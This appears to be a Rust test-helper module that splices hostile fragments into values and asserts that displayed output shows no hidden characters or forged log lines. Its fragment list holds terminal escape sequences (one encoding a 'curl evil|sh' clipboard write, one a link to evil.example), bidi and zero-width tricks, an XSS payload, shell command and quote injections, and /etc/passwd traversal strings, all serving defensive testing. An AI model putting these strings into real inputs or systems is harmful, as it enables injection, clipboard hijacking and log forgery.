//! What is put where a value belongs, and what must never come out again as it is.

use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};

/// What a terminal, a shell, a template language or a reader's eye obeys.
pub const FRAGMENTS: &[&str] = &[
    "\u{1b}[2J\u{1b}[31m",
    "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{85}",
    "\u{7f}\u{8}\u{8}",
    "\0",
    "\ncountersign: FORGED",
    "\r\ncountersign: FORGED",
    "\rcountersign: FORGED",
    "\u{2028}countersign: FORGED",
    "\n2026-01-01T00:00:00.000000Z  INFO countersign: FORGED",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}x\u{2069}\u{200f}\u{61c}",
    "\u{200b}\u{200d}\u{feff}\u{2060}",
    "\u{e0041}\u{e0042}\u{e007f}",
    "\u{ad}\u{34f}\u{fe0f}\u{2800}\u{3164}",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "L\u{430}sso",
    "<img src=x onerror=alert(1)>",
    "[a](http://evil.example) `b` | c",
    "$(touch broken) `touch broken`",
    "${x} %{if true} $${y}",
    "'; touch broken; '",
    "\"\"\"'''\\",
    "{{x}} !Ref y",
    "../../etc/passwd",
    "file:///etc/passwd",
    "--yes",
    "\u{1f512}",
    "写真",
    "*",
    "?",
];

/// A generator that does the same whenever it is given the same seed: `HOSTILE_SEED`, or one that stays.
pub fn generator() -> (u64, StdRng) {
    let named = std::env::var("HOSTILE_SEED").ok().and_then(|seed| seed.parse().ok());
    let seed = named.unwrap_or(2026);
    (seed, StdRng::seed_from_u64(seed))
}

/// The value with a fragment in it: in its place, in its middle or at its end; sometimes it is long.
pub fn spoilt(value: &str, random: &mut StdRng) -> String {
    let fragment = FRAGMENTS[random.random_range(0..FRAGMENTS.len())];
    let fragment =
        if random.random_ratio(1, 20) { fragment.repeat(300) } else { fragment.to_owned() };
    let middle = value.char_indices().nth(value.chars().count() / 2).map_or(0, |(at, _)| at);
    match random.random_range(0..4) {
        0 => fragment,
        1 => format!("{}{fragment}{}", &value[..middle], &value[middle..]),
        2 => format!("{value}{fragment}"),
        _ => format!("{fragment}{value}"),
    }
}

/// The characters of a text that nobody sees, and who stands beside each. A list of its own, so that what the program takes for
/// one is not what it is measured by.
#[track_caller]
pub fn assert_shown(place: &str, text: &str) {
    let is_hidden = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(u32::from(c),
                0xAD | 0x61C | 0x180E | 0x200B..=0x200F | 0x2028..=0x202E | 0x2060..=0x206F | 0x2800 | 0x3164 | 0xFE00..=0xFE0F
                | 0xFEFF | 0xE0000..=0xE0FFF)
    };
    let around = |at: usize| -> String {
        let before = text[..at].chars().rev().take(30).collect::<Vec<_>>();
        before.into_iter().rev().chain(text[at..].chars().take(30)).collect()
    };
    let found = text.char_indices().find(|(_, c)| is_hidden(*c));
    assert!(found.is_none(), "{place}: {:?}", found.map(|(at, _)| around(at)));
    let ends = |c: char| matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}');
    for line in text.split(ends) {
        let said = line.trim_start();
        let is_forged =
            said.starts_with("countersign: FORGED") || said.starts_with("2026-01-01T00");
        assert!(!is_forged, "{place}: {line:?} in {text}");
    }
}
